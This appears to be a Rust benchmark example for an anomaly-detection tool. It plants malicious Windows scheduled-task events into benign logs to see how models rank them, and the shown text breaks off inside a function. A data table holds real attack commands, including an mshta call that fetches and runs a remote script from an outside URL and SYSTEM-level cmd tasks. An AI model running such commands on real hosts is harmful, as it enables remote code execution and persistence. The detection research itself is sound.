//! Detection benchmark: plant known-malicious scheduled-task events into benign activity and
//! see where each model ranks them.
//!
//! `cargo run --release --example detection [-- SEEDS]` (default 5 seeds;
//! `DETECTION_FAMILIES=real,definitions` runs only those families; `DETECTION_MODELS=a,b`
//! only those models; `DETECTION_TOP=N` prints each ranking's top N rows with their attack
//! and strongest fields, each as `share=model part+history part`).
//!
//! Families, real backgrounds first (when ../shared is there):
//! - `real`: every scheduled-task event of the real public logs in ../shared/evtx (the
//!   TaskScheduler/Operational log of a Server 2012 R2 domain controller, 604 records; the
//!   OTRF captures' benign task events; Sysmon's benign `schtasks`), with the real attacks its
//!   MANIFEST.md marks MALICIOUS labelled where they are, and conditional plants built from the
//!   background's own records ([`swap_plants`]: a copy of a real benign record with one field
//!   swapped to a value common elsewhere in the background, the combination new).
//! - `definitions`: the 114 task definitions of a real Windows 11 host
//!   (../shared/tasks/artemis/tasks.jsonl), the real attacks' commands planted as definitions
//!   on it, and conditional plants swapped the same way from its own definitions.
//! - `small`, `medium`, `large`: simulated fleets, with the simulator's five attacks, the real
//!   attacks of ../shared/evtx and the conditional plants of [`conditional_plants`].
//!
//! For each model: the best rank of each attack (median and worst), how many attacks reach
//! the top 10 and 20, precision at 10 and 20, how many attacks have their task in the top 20
//! tasks and every event in the top 60, averaged over the seeds; then per attack and plant its
//! median best event rank, task rank and worst event rank. `+ctx` rows add fleet prevalence
//! and lifecycle flags ([`Dataset::add_context_with`] `false`); `+ctx+def` rows also the task
//! definition's features lent to every event of the task ([`Dataset::add_context`], what the
//! app uses).

// Tests, benchmarks and examples may unwrap: a failure there is a test failure.
#![allow(clippy::unwrap_used)]

use std::collections::HashMap;
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::AtomicBool;

use anomalog::eval::{Evaluation, evaluate};
use anomalog::event::RawEvent;
use anomalog::frame::{Dataset, Occurrence};
use anomalog::ingest::{self, Progress};
use anomalog::model::ModelKind;
use anomalog::model::ae::{AeConfig, Objective};
use anomalog::model::worker::{Task, run};
use anomalog::profile::{Profile, by_name};
use anomalog::simulate::{self, Background, Config, Logging};

/// The real attacks of ../shared/evtx (MANIFEST.md, "Malicious tasks"): file, and a marker
/// found in the task name or command line of its malicious events.
const SHARED_ATTACKS: &[(&str, &str, &str)] = &[
    (
        "atexec \\bouWFQYO",
        "ID4698-4699-Fast_created_&_deleted_task_by_ATexec_(susp._arg.).evtx",
        "bouwfqyo",
    ),
    (
        "\\eviltask as SYSTEM",
        "ID4688-4698_Persistent_scheduled_task_with_SYSTEM_privileges_creation.evtx",
        "eviltask",
    ),
    (
        "\\LMST remote update",
        "remote_task_update_4624_4702_same_logonid.evtx",
        "lmst",
    ),
    (
        "MSOFFICE_ mshta",
        "exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx",
        "msoffice_",
    ),
    (
        "elevator via XML",
        "sysmon_1_11_exec_as_system_via_schedtask.evtx",
        "elevator",
    ),
    (
        "schtasks /query /xml",
        "ID4688-Scheduled_task_configuration_enumeration.evtx",
        "/query",
    ),
    (
        "EventCacheManager create",
        "schtask_create_2020-12-1907003032.json",
        "eventcachemanager",
    ),
    (
        "EventCacheManager modify",
        "schtask_modification_2020-12-1907505969.json",
        "eventcachemanager",
    ),
];

/// Whether `e` is one of an attack's events: `marker` in its task name or command line.
fn marked(e: &RawEvent, marker: &str) -> bool {
    let t = e.get("TaskName").unwrap_or("").to_lowercase();
    let c = e.get("CommandLine").unwrap_or("").to_lowercase();
    t.contains(marker) || c.contains(marker)
}

fn shared_attacks(profile: &dyn Profile) -> Vec<(String, Vec<RawEvent>)> {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/evtx");
    if !dir.is_dir() {
        eprintln!("note: ../shared/evtx absent, planting the simulator's attacks only");
        return Vec::new();
    }
    SHARED_ATTACKS
        .iter()
        .map(|(name, file, marker)| {
            let ing = ingest::read_paths(
                &[dir.join(file)],
                |e| profile.wants(e),
                &Progress::default(),
            );
            let events: Vec<RawEvent> = ing
                .events
                .into_iter()
                .filter(|e| marked(e, marker))
                .map(|mut e| {
                    e.source = Arc::from(format!("planted:{name}:{}", e.source));
                    e
                })
                .collect();
            (name.to_string(), events)
        })
        .collect()
}

/// The text between `<tag>` and `</tag>`, if any.
fn xml_text<'a>(xml: &'a str, tag: &str) -> Option<&'a str> {
    let open = format!("<{tag}>");
    let from = xml.find(&open)? + open.len();
    let to = xml[from..].find(&format!("</{tag}>"))? + from;
    Some(&xml[from..to])
}

fn with_xml_text(xml: &str, tag: &str, value: &str) -> Option<String> {
    let old = xml_text(xml, tag)?;
    Some(xml.replacen(
        &format!("<{tag}>{old}</{tag}>"),
        &format!("<{tag}>{value}</{tag}>"),
        1,
    ))
}

/// The conditional family: copies of benign task registrations (Security 4698) of the fleet
/// with one or two fields swapped to values that are common elsewhere, so that every value is
/// ordinary and only the combination is new:
/// - a built-in `\Microsoft\Windows\` task registered by an ordinary user;
/// - a vendor updater's task that launches another vendor's binary;
/// - a per-user task that runs as SYSTEM;
/// - a built-in maintenance task whose action is `rundll32.exe` (with another task's
///   arguments);
/// - a vendor task registered by a domain admin account and run at highest privileges.
fn conditional_plants(
    events: &[RawEvent],
    rng: &mut rand::rngs::StdRng,
) -> Vec<(String, RawEvent)> {
    use rand::Rng;
    let defs: Vec<&RawEvent> = events
        .iter()
        .filter(|e| e.event_id == 4698 && e.get("TaskContent").is_some())
        .collect();
    if defs.is_empty() {
        return Vec::new();
    }
    let content = |e: &RawEvent| e.get("TaskContent").unwrap_or("").to_string();
    let task = |e: &RawEvent| e.get("TaskName").unwrap_or("").to_string();
    let pick = |rng: &mut rand::rngs::StdRng, f: &dyn Fn(&RawEvent) -> bool| -> Option<RawEvent> {
        let c: Vec<&&RawEvent> = defs.iter().filter(|e| f(e)).collect();
        (!c.is_empty()).then(|| (*c[rng.random_range(0..c.len())]).clone())
    };
    // Values common in the fleet: the most frequent registering user that is a person, the
    // commands of vendor tasks.
    let mut users: HashMap<String, usize> = HashMap::new();
    for e in &defs {
        let u = e.get("SubjectUserName").unwrap_or("");
        if !u.ends_with('$') && !u.is_empty() {
            *users.entry(u.to_string()).or_default() += 1;
        }
    }
    let common_user = users
        .into_iter()
        .max_by_key(|(u, n)| (*n, u.clone()))
        .map(|(u, _)| u);
    let is_builtin = |e: &RawEvent| task(e).starts_with("\\Microsoft\\Windows\\");
    let exec_of = |e: &RawEvent| xml_text(&content(e), "Command").map(str::to_string);
    let is_vendor = |e: &RawEvent| {
        let t = task(e).to_lowercase();
        !t.starts_with("\\microsoft\\windows\\")
            && exec_of(e).is_some_and(|c| c.to_lowercase().contains("program files"))
    };
    let mut out = Vec::new();
    let set = |ev: &mut RawEvent, key: &str, value: &str| {
        if let Some(slot) = ev.data.iter_mut().find(|(k, _)| k == key) {
            slot.1 = value.to_string();
        }
    };
    // 1. A built-in task registered by an ordinary user.
    if let (Some(mut e), Some(user)) = (
        pick(rng, &|e| {
            is_builtin(e) && e.get("SubjectUserName").is_some_and(|u| u.ends_with('$'))
        }),
        common_user.clone(),
    ) {
        set(&mut e, "SubjectUserName", &user);
        out.push(("cond / built-in task by a user".to_string(), e));
    }
    // 2. A vendor updater launching another vendor's binary.
    if let Some(mut e) = pick(rng, &is_vendor) {
        let own = exec_of(&e).unwrap_or_default();
        let other = defs
            .iter()
            .filter(|d| is_vendor(d))
            .filter_map(|d| exec_of(d))
            .find(|c| {
                let vendor = |p: &str| {
                    p.to_lowercase()
                        .split('\\')
                        .nth(2)
                        .unwrap_or("")
                        .to_string()
                };
                vendor(c) != vendor(&own)
            });
        if let Some(other) = other
            && let Some(x) = with_xml_text(&content(&e), "Command", &other)
        {
            set(&mut e, "TaskContent", &x);
            out.push(("cond / updater runs another vendor's binary".to_string(), e));
        }
    }
    // 3. A per-user task (its principal a user's SID) run as SYSTEM.
    if let Some(mut e) = pick(rng, &|e| {
        xml_text(&content(e), "UserId").is_some_and(|u| u.starts_with("S-1-5-21-"))
    }) && let Some(x) = with_xml_text(&content(&e), "UserId", "S-1-5-18")
    {
        set(&mut e, "TaskContent", &x);
        out.push(("cond / per-user task as SYSTEM".to_string(), e));
    }
    // 4. A built-in maintenance task whose action is rundll32.exe.
    if let Some(mut e) = pick(rng, &|e| {
        is_builtin(e) && exec_of(e).is_some_and(|c| !c.to_lowercase().contains("rundll32"))
    }) && let Some(x) =
        with_xml_text(&content(&e), "Command", "%windir%\\system32\\rundll32.exe")
    {
        set(&mut e, "TaskContent", &x);
        out.push(("cond / built-in task runs rundll32".to_string(), e));
    }
    // 5. A vendor task registered by an admin, at highest privileges.
    if let Some(mut e) = pick(rng, &is_vendor) {
        let admin = defs
            .iter()
            .filter_map(|d| d.get("SubjectUserName"))
            .find(|u| u.to_lowercase().contains("admin"))
            .map(str::to_string);
        if let Some(admin) = admin
            && let Some(x) = with_xml_text(&content(&e), "RunLevel", "HighestAvailable")
        {
            set(&mut e, "SubjectUserName", &admin);
            set(&mut e, "TaskContent", &x);
            out.push(("cond / vendor task by an admin, highest".to_string(), e));
        }
    }
    // Each a new record of its host, after everything else.
    for (i, (name, e)) in out.iter_mut().enumerate() {
        e.record_id = Some(9_000_000 + i as u64);
        e.time = e.time.map(|t| t + 3_600_000_000);
        e.source = Arc::from(format!("planted:{name}:{}", e.source));
    }
    out
}

/// Files of ../shared/evtx that copy another (the zips of the OTRF captures whose JSON is
/// there unzipped; the same records as security.evtx with a damaged string cache).
const SHARED_COPIES: &[&str] = &[
    "schtask_create.zip",
    "schtask_modification.zip",
    "security_bad_string_cache.evtx",
];

/// The real background: every scheduled-task event of ../shared/evtx (its copies left out),
/// the real attacks' events labelled `planted:NAME:` where they are. `None` without the folder.
fn real_background(profile: &dyn Profile) -> Option<Vec<RawEvent>> {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/evtx");
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .ok()?
        .flatten()
        .map(|e| e.path())
        .filter(|p| {
            let name = p.file_name().and_then(|n| n.to_str()).unwrap_or("");
            !SHARED_COPIES.contains(&name) && !name.ends_with(".md")
        })
        .collect();
    files.sort();
    let ing = ingest::read_paths(&files, |e| profile.wants(e), &Progress::default());
    let events = ing
        .events
        .into_iter()
        .map(|mut e| {
            let attack = SHARED_ATTACKS
                .iter()
                .find(|(_, file, marker)| e.source.contains(file) && marked(&e, marker));
            if let Some((name, _, _)) = attack {
                e.source = Arc::from(format!("planted:{name}:{}", e.source));
            }
            e
        })
        .collect();
    Some(events)
}

/// One seed of the real family: the background with its labelled attacks, and the plants.
fn real_planted(background: &[RawEvent], seed: u64) -> Planted {
    let mut names: Vec<String> = SHARED_ATTACKS.iter().map(|a| a.0.to_string()).collect();
    let mut events = background.to_vec();
    let benign: Vec<RawEvent> = background
        .iter()
        .filter(|e| !e.source.starts_with("planted:"))
        .cloned()
        .collect();
    let mut rng = <rand::rngs::StdRng as rand::SeedableRng>::seed_from_u64(seed);
    // Which field of which real records is swapped (Operational: 100 started, 102 completed,
    // 106 registered, 129 process created, 200/201 action started/completed; Security: 4698
    // created, 4702 updated).
    let specs: &[(&str, &[u32], &str)] = &[
        ("cond / action of another task (200)", &[200], "ActionName"),
        ("cond / action of another task (201)", &[201], "ActionName"),
        ("cond / process of another task (129)", &[129], "Path"),
        (
            "cond / started as another user (100)",
            &[100],
            "UserContext",
        ),
        ("cond / completed as another user (102)", &[102], "UserName"),
        (
            "cond / registered by another user (106)",
            &[106],
            "UserContext",
        ),
        (
            "cond / changed by another account (4702)",
            &[4698, 4702],
            "SubjectUserName",
        ),
        ("cond / user of another task (110)", &[110], "UserContext"),
    ];
    for (name, ids, field) in specs {
        let key = |e: &RawEvent| e.get("TaskName").unwrap_or("").to_lowercase();
        if let Some(e) = swap_plants(&benign, ids, field, &key, &mut rng) {
            names.push(name.to_string());
            events.push(planted(e, name, names.len()));
        }
    }
    Planted {
        events,
        names,
        truth: None,
        _dir: None,
    }
}

/// A copy of a real benign record (of one of `ids`) with `field` swapped to a value that is
/// common in the background (at least 3 records of `ids` have it) but never seen with the
/// record's `key` (its task; for definitions, its folder): every value ordinary, the
/// combination new. Picked by `rng` among all such; `None` when there is none.
fn swap_plants(
    background: &[RawEvent],
    ids: &[u32],
    field: &str,
    key: &dyn Fn(&RawEvent) -> String,
    rng: &mut rand::rngs::StdRng,
) -> Option<RawEvent> {
    use rand::Rng;
    let of_ids: Vec<&RawEvent> = background
        .iter()
        .filter(|e| ids.contains(&e.event_id) && e.get(field).is_some_and(|v| !v.is_empty()))
        .collect();
    // Values as the profile reads them: accounts normalised (two computer accounts are one
    // value, `<machine>$`), so that a swap is a new combination to the models too.
    let read = |v: &str| {
        if field.contains("User") {
            anomalog::profile::features::normalize_user("", v)
        } else {
            v.to_string()
        }
    };
    let mut counts: HashMap<&str, usize> = HashMap::new();
    let mut seen: std::collections::HashSet<(String, String)> = Default::default();
    for e in &of_ids {
        let v = e.get(field).unwrap_or("");
        *counts.entry(v).or_default() += 1;
        seen.insert((key(e), read(v)));
    }
    let mut common: Vec<&str> = counts
        .iter()
        .filter(|(_, n)| **n >= 3)
        .map(|(v, _)| *v)
        .collect();
    common.sort_unstable();
    // Every (record, value) pair that makes a new combination, in a stable order.
    let mut choices: Vec<(usize, &str)> = Vec::new();
    for (i, e) in of_ids.iter().enumerate() {
        for &v in &common {
            if !seen.contains(&(key(e), read(v))) {
                choices.push((i, v));
            }
        }
    }
    if choices.is_empty() {
        return None;
    }
    let (i, v) = choices[rng.random_range(0..choices.len())];
    let mut e = of_ids[i].clone();
    if let Some(slot) = e.data.iter_mut().find(|(k, _)| k == field) {
        slot.1 = v.to_string();
    }
    Some(e)
}

/// A planted copy: a new record of its host, an hour after the original, labelled.
fn planted(mut e: RawEvent, name: &str, n: usize) -> RawEvent {
    e.record_id = Some(9_000_000 + n as u64);
    e.time = e.time.map(|t| t + 3_600_000_000);
    e.source = Arc::from(format!("planted:{name}:{}", e.source));
    e
}

/// The real attacks' tasks as definitions (MANIFEST.md, "Malicious tasks": name, command,
/// arguments, user they run as).
const DEFINITION_ATTACKS: &[(&str, &str, &str, &str, &str)] = &[
    (
        "def / atexec \\bouWFQYO",
        "\\bouWFQYO",
        "cmd.exe",
        "/C whoami > %windir%\\Temp\\bouWFQYO.tmp 2>&1",
        "S-1-5-18",
    ),
    (
        "def / \\eviltask as SYSTEM",
        "\\eviltask",
        "C:\\tools\\shell.cmd",
        "",
        "S-1-5-18",
    ),
    (
        "def / \\LMST",
        "\\LMST",
        "cmd.exe",
        "/c echo testing > c:\\users\\public\\out.txt",
        "S-1-5-18",
    ),
    (
        "def / EventCacheManager",
        "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\EventCacheManager",
        "C:\\Windows\\system32\\cmd.exe",
        "/C C:\\Windows\\System32\\notepad.exe",
        "S-1-5-18",
    ),
    (
        "def / MSOFFICE_ mshta",
        "\\MSOFFICE_",
        "mshta.exe",
        "https://hotelesms.com/Injection.txt",
        "",
    ),
];

/// The real definitions of ../shared/tasks/artemis/tasks.jsonl, or `None` without it.
fn real_definitions(profile: &dyn Profile) -> Option<Vec<RawEvent>> {
    let file =
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/tasks/artemis/tasks.jsonl");
    if !file.is_file() {
        eprintln!("note: ../shared/tasks absent, no definitions family");
        return None;
    }
    let ing = ingest::read_paths(&[file], |e| profile.wants(e), &Progress::default());
    Some(ing.events)
}

/// The folder of a definition's task (`\Microsoft\Windows\Defrag` of
/// `\Microsoft\Windows\Defrag\ScheduledDefrag`), lower case.
fn folder(e: &RawEvent) -> String {
    let t = e.get("TaskName").unwrap_or("").to_lowercase();
    t.rsplit_once('\\')
        .map(|(f, _)| f.to_string())
        .unwrap_or_default()
}

/// One seed of the definitions family: the real host's definitions, the real attacks'
/// tasks written as definitions of that host (each a copy of one of its definitions, picked
/// by the seed, with the attack's name, command and user), and conditional plants.
fn definitions_planted(background: &[RawEvent], seed: u64) -> Planted {
    use rand::Rng;
    let mut rng = <rand::rngs::StdRng as rand::SeedableRng>::seed_from_u64(seed);
    let mut events = background.to_vec();
    let mut names = Vec::new();
    let set = |e: &mut RawEvent, key: &str, value: &str| match e
        .data
        .iter_mut()
        .find(|(k, _)| k == key)
    {
        Some(slot) => slot.1 = value.to_string(),
        None => e.data.push((key.to_string(), value.to_string())),
    };
    for (name, task, command, arguments, user) in DEFINITION_ATTACKS {
        let mut e = background[rng.random_range(0..background.len())].clone();
        set(&mut e, "TaskName", task);
        set(&mut e, "Uri", task);
        set(&mut e, "Command", command);
        set(&mut e, "Arguments", arguments);
        set(&mut e, "UserId", user);
        set(&mut e, "Actions", "exec");
        e.data
            .retain(|(k, _)| k != "ComClassId" && k != "Author" && k != "Description");
        names.push(name.to_string());
        events.push(planted(e, name, names.len()));
    }
    // A host holds one definition per task: a plant is its task's definition changed (the
    // original leaves), not a second definition of the same task beside it.
    for (name, field) in [
        ("cond / definition runs another folder's command", "Command"),
        ("cond / definition runs as another folder's user", "UserId"),
        (
            "cond / definition at another folder's run level",
            "RunLevel",
        ),
        (
            "cond / definition with another folder's arguments",
            "Arguments",
        ),
    ] {
        if let Some(e) = swap_plants(
            background,
            &[anomalog::event::DEF_XML],
            field,
            &folder,
            &mut rng,
        ) {
            let task = e.get("TaskName").unwrap_or("").to_string();
            events.retain(|d| d.source.starts_with("planted:") || d.get("TaskName") != Some(&task));
            names.push(name.to_string());
            events.push(planted(e, name, names.len()));
        }
    }
    Planted {
        events,
        names,
        truth: None,
        _dir: None,
    }
}

#[derive(Default)]
struct Acc {
    runs: usize,
    median: f64,
    worst: f64,
    top10: f64,
    p10: f64,
    p20: f64,
    attacks: usize,
    /// Attacks whose task is in the top 20 tasks.
    tasks20: f64,
    /// Attacks with every event in the top 60.
    all60: f64,
}

/// A variant's knob: ` w0.5` in its name gives `knob(name, 'w') == Some(0.5)`.
fn knob(name: &str, k: char) -> Option<f64> {
    name.split(' ')
        .skip(1)
        .find_map(|part| part.strip_prefix(k).and_then(|v| v.parse().ok()))
}

/// One seed's data set of a family: the events, the names of the attacks and plants in it,
/// and the simulator's ground truth (simulated families; the temporary folder it wrote).
struct Planted {
    events: Vec<RawEvent>,
    names: Vec<String>,
    truth: Option<simulate::GroundTruth>,
    _dir: Option<tempfile::TempDir>,
}

type Model = (&'static str, ModelKind, u8);

/// What every run adds to: per (family, model) the averages; per (model, attack) its ranks.
struct Bench {
    models: Vec<Model>,
    table: HashMap<(&'static str, &'static str), Acc>,
    per_attack: HashMap<(&'static str, String), Vec<usize>>,
    per_attack_task: HashMap<(&'static str, String), Vec<usize>>,
    per_attack_worst: HashMap<(&'static str, String), Vec<usize>>,
}

/// A simulated fleet of `hosts` hosts over `days` days, with the simulator's attacks, the
/// real attacks of ../shared/evtx and [`conditional_plants`].
fn simulated(
    profile: &dyn Profile,
    shared: &[(String, Vec<RawEvent>)],
    hosts: usize,
    days: u32,
    seed: u64,
) -> Planted {
    let dir = tempfile::tempdir().unwrap();
    let truth = simulate::simulate(
        &Config {
            hosts,
            days,
            seed,
            // Task events only: background noise never reaches the profile
            // (tests/simulate.rs), and would only slow the benchmark down.
            background: Background::None,
            // Every host logging everything, no Tasks folder: the fleets the table's
            // history was measured on (definitions are ranked by `--by definition`).
            logging: Logging::Full,
            tasks_folder: false,
            ..Config::default()
        },
        dir.path(),
    )
    .unwrap();
    let ing = ingest::read_paths(
        &[dir.path().to_path_buf()],
        |e| profile.wants(e),
        &Progress::default(),
    );
    let mut events = ing.events;
    let mut names: Vec<String> = truth.attacks.iter().map(|a| a.id.clone()).collect();
    for (name, ev) in shared {
        names.push(name.clone());
        events.extend(ev.iter().cloned());
    }
    let mut plant_rng = <rand::rngs::StdRng as rand::SeedableRng>::seed_from_u64(seed);
    for (name, ev) in conditional_plants(&events, &mut plant_rng) {
        names.push(name);
        events.push(ev);
    }
    Planted {
        events,
        names,
        truth: Some(truth),
        _dir: Some(dir),
    }
}

fn main() {
    let seeds: u64 = std::env::args()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(5);
    let profile = by_name("scheduled-tasks").unwrap();
    let shared = shared_attacks(profile.as_ref());
    let real = real_background(profile.as_ref());
    let definitions = real_definitions(profile.as_ref());
    let families: [(&'static str, usize, u32); 5] = [
        ("real", 0, 0),
        ("definitions", 0, 0),
        ("small", 8usize, 2u32),
        ("medium", 40, 4),
        ("large", 120, 7),
    ];
    let wanted = std::env::var("DETECTION_FAMILIES").unwrap_or_default();
    let runs = |f: &str| wanted.is_empty() || wanted.split(',').any(|w| w == f);
    // (name, model, context: 0 none, 1 fleet prevalence and lifecycle flags, 2 those and
    // the task definition's features lent to the events without one)
    let mut models: Vec<Model> = vec![
        ("ae", ModelKind::Ae, 0u8),
        ("ae+ctx", ModelKind::Ae, 1),
        ("ae+ctx+def", ModelKind::Ae, 2),
        ("ae-masked+ctx+def", ModelKind::Ae, 2),
        // `--objective hybrid`: the swap ranking plus what two masked models agree on.
        ("ae-hybrid+ctx+def", ModelKind::Ae, 2),
        // The previous scoring, in the same run: the hybrid's fields summed as its models
        // give them (every derived field counting its value's rarity again, no history).
        ("ae-hybrid+ctx+def prev", ModelKind::Ae, 2),
        // Measured and dropped: the frequency prior at half, a quarter or none of its weight
        // ("ae+ctx+def w0.5" and so on; README "Detection benchmark").
        ("ds4n6", ModelKind::Ds4n6, 0),
        ("rarity", ModelKind::Rarity, 0),
        ("rarity+ctx", ModelKind::Rarity, 1),
        ("rarity+ctx+def", ModelKind::Rarity, 2),
    ];
    // `DETECTION_EXTRA="ae-masked+ctx+def v256,ae-masked+ctx+def m0.5 e64"`: autoencoder
    // variants to measure beside the others, named by their knobs (`w` prior weight, `v`
    // largest vocabulary per field, `m` mask rate, `e` epochs, `c` contradiction weight;
    // `f` the weight of the evidence after the strongest, `f1` their sum; `g0`: fields
    // summed as before evidence was counted once). `rarity...` names measure counting
    // with the same knobs `f` and `g`.
    for extra in std::env::var("DETECTION_EXTRA")
        .unwrap_or_default()
        .split(',')
    {
        let extra = extra.trim();
        if !extra.is_empty() {
            let name: &'static str = Box::leak(extra.to_string().into_boxed_str());
            let kind = if name.starts_with("rarity") {
                ModelKind::Rarity
            } else {
                ModelKind::Ae
            };
            models.push((name, kind, 2));
        }
    }
    let mut bench = Bench {
        models,
        table: HashMap::new(),
        per_attack: HashMap::new(),
        per_attack_task: HashMap::new(),
        per_attack_worst: HashMap::new(),
    };
    for (family, hosts, days) in families {
        if !runs(family) {
            continue;
        }
        for seed in 1..=seeds {
            let planted = match family {
                "real" => match &real {
                    Some(r) => real_planted(r, seed),
                    None => continue,
                },
                "definitions" => match &definitions {
                    Some(d) => definitions_planted(d, seed),
                    None => continue,
                },
                _ => simulated(profile.as_ref(), &shared, hosts, days, seed),
            };
            measure(&mut bench, profile.as_ref(), family, seed, planted);
        }
    }
    let Bench {
        models,
        table,
        per_attack,
        per_attack_task,
        per_attack_worst,
    } = bench;
    println!(
        "| fleet | model | median rank | worst rank | attacks in top 10 | P@10 | P@20 | task in top 20 tasks | every event in top 60 |"
    );
    println!("|---|---|---|---|---|---|---|---|---|");
    for (size, hosts, days) in families {
        for &(name, _, _) in &models {
            let Some(a) = table.get(&(size, name)) else {
                continue;
            };
            let n = a.runs as f64;
            let fleet = if hosts == 0 {
                size.to_string()
            } else {
                format!("{size} ({hosts} hosts, {days} days)")
            };
            println!(
                "| {fleet} | {name} | {:.1} | {:.1} | {:.1} / {} | {:.2} | {:.2} | {:.1} | {:.1} |",
                a.median / n,
                a.worst / n,
                a.top10 / n,
                a.attacks,
                a.p10 / n,
                a.p20 / n,
                a.tasks20 / n,
                a.all60 / n
            );
        }
    }
    let median = |m: &HashMap<(&str, String), Vec<usize>>, model: &str, a: &String| {
        let mut r = m.get(&(model, a.clone())).cloned().unwrap_or_default();
        r.sort_unstable();
        r.get(r.len() / 2)
            .map(|x| x.to_string())
            .unwrap_or("-".into())
    };
    let mut attacks: Vec<&String> = per_attack.keys().map(|(_, a)| a).collect();
    attacks.sort();
    attacks.dedup();
    println!();
    println!("Median best event rank per attack:");
    println!();
    let header: Vec<&str> = models
        .iter()
        .map(|m| m.0)
        .filter(|m| per_attack.keys().any(|(n, _)| n == m))
        .collect();
    println!("| attack | {} |", header.join(" | "));
    println!("|---|{}", "---|".repeat(header.len()));
    for a in &attacks {
        let cells: Vec<String> = header.iter().map(|m| median(&per_attack, m, a)).collect();
        println!("| {a} | {} |", cells.join(" | "));
    }
    let ctx: Vec<&str> = header
        .iter()
        .copied()
        .filter(|m| m.contains("+ctx"))
        .collect();
    println!();
    println!("Median task rank / median worst event rank per attack:");
    println!();
    println!("| attack | {} |", ctx.join(" | "));
    println!("|---|{}", "---|".repeat(ctx.len()));
    for a in &attacks {
        let cells: Vec<String> = ctx
            .iter()
            .map(|m| {
                format!(
                    "{} / {}",
                    median(&per_attack_task, m, a),
                    median(&per_attack_worst, m, a)
                )
            })
            .collect();
        println!("| {a} | {} |", cells.join(" | "));
    }
}

/// Score variants of one ranking's field shares, by the knobs of the model's name: `g0` the
/// plain sum of fields (before evidence was counted once), `g1` the sum of each group's
/// largest share (evidence once, not calibrated), `fX` calibrated evidence combined with
/// weight X for the pieces after the strongest.
fn regroup(ds: &Dataset, ranking: &mut anomalog::model::Ranking, name: &str) {
    use anomalog::model::evidence::{Calibration, Groups};
    let groups = Groups::of(&ds.fields);
    // `h1`: each field's rarity replaced by its surprise given the task's history (`h2`:
    // that alone, without what the model adds): with ` prev`, what `evidence::rank` does.
    let shares = match knob(name, 'h') {
        Some(h) => anomalog::model::evidence::with_history(
            &ranking.field_scores,
            &ranking.field_parts,
            &anomalog::model::evidence::History::of(ds),
            h < 1.5,
        ),
        None => ranking.field_scores.clone(),
    };
    // `bX`: a group's shares after its largest weigh X (default: the library's).
    let within = knob(name, 'b').map_or(anomalog::model::evidence::WITHIN, |b| b as f32);
    let scores: Vec<f64> = match (knob(name, 'g'), knob(name, 'f')) {
        (Some(0.0), _) => shares
            .iter()
            .map(|r| r.iter().map(|&x| f64::from(x)).sum())
            .collect(),
        (Some(_), _) => shares
            .iter()
            .map(|r| {
                groups
                    .surprises_with(r, within)
                    .iter()
                    .map(|&x| f64::from(x))
                    .sum()
            })
            .collect(),
        (None, Some(f)) => {
            // Every group calibrated, the strongest fully, each next `f` times the one before.
            let cal = Calibration::fit_with(ds, &groups, &shares, within);
            shares
                .iter()
                .enumerate()
                .map(|(u, row)| {
                    let kind = ds.uniques[u].kind();
                    let mut c: Vec<f64> = groups
                        .surprises_with(row, within)
                        .into_iter()
                        .enumerate()
                        .map(|(g, x)| cal.surprise(kind, g, x))
                        .collect();
                    c.sort_by(|a, b| b.total_cmp(a));
                    let plain: f64 = row.iter().map(|&x| f64::from(x)).sum();
                    c.iter()
                        .enumerate()
                        .map(|(i, x)| x * f.powi(i as i32))
                        .sum::<f64>()
                        + 1e-3 * plain
                })
                .collect()
        }
        (None, None) => return,
    };
    let mut r = anomalog::model::Ranking::from_scores(
        ranking.model,
        ds,
        scores,
        std::mem::take(&mut ranking.field_scores),
    );
    r.field_z = std::mem::take(&mut ranking.field_z);
    r.expected = std::mem::take(&mut ranking.expected);
    r.field_parts = std::mem::take(&mut ranking.field_parts);
    *ranking = r;
}

/// Train and evaluate every model of `bench` on one seed's data set of `size`.
fn measure(
    bench: &mut Bench,
    profile: &dyn Profile,
    size: &'static str,
    seed: u64,
    planted: Planted,
) {
    let Planted {
        events,
        names,
        truth,
        ..
    } = planted;
    let plain = Dataset::build(profile, events.clone());
    let mut with_context = Dataset::build(profile, events.clone());
    anomalog::context::add_with(&mut with_context, false);
    let mut with_defs = Dataset::build(profile, events);
    anomalog::context::add(&mut with_defs);
    let attack_of = |ds: &Dataset, o: &Occurrence| -> Option<usize> {
        let source = ds.source_of(o);
        if let Some(rest) = source.strip_prefix("planted:") {
            let name = rest.split(':').next()?;
            return names.iter().position(|n| n == name);
        }
        let src = source.replace('\\', "/");
        truth.as_ref()?.attacks.iter().position(|a| {
            a.records
                .iter()
                .any(|r| o.record_id() == Some(r.record_id) && src.ends_with(&r.file))
        })
    };
    let only = std::env::var("DETECTION_MODELS").unwrap_or_default();
    for &(name, kind, context) in &bench.models {
        if !only.is_empty() && !only.split(',').any(|m| m == name) {
            continue;
        }
        let ds = match context {
            0 => &plain,
            1 => &with_context,
            _ => &with_defs,
        };
        let task = Task::Train {
            kind,
            config: AeConfig {
                seed,
                objective: if name.contains("masked") {
                    Objective::Masked
                } else if name.starts_with("ae-hybrid") {
                    Objective::Hybrid
                } else {
                    Objective::Swap
                },
                prior_weight: knob(name, 'w').unwrap_or(1.0) as f32,
                mask_rate: knob(name, 'm').unwrap_or(0.3),
                contradiction: knob(name, 'c').map_or(4.0, |c| c as f32),
                epochs: knob(name, 'e').map_or(0, |e| e as usize),
                encode: anomalog::model::encode::EncodeConfig {
                    max_vocab: knob(name, 'v').map_or(64, |v| v as usize),
                    ..Default::default()
                },
                ..AeConfig::default()
            },
        };
        let start = std::time::Instant::now();
        // ` prev`: the ranking as the models give it, before evidence is counted once and
        // rarity read against each task's history (`evidence::rank`): the previous scoring.
        let mut trained = match task {
            Task::Train {
                kind: ModelKind::Ae,
                config,
            } if name.contains(" prev") => {
                let cancel = AtomicBool::new(false);
                let ranking = if config.objective == Objective::Hybrid {
                    anomalog::model::hybrid::Hybrid::train(ds, config, &cancel, &mut |_| {})
                        .unwrap()
                        .1
                } else {
                    anomalog::model::ae::Autoencoder::train_and_score(
                        ds,
                        config,
                        &cancel,
                        &mut |_| {},
                    )
                    .unwrap()
                    .1
                };
                anomalog::model::worker::Trained {
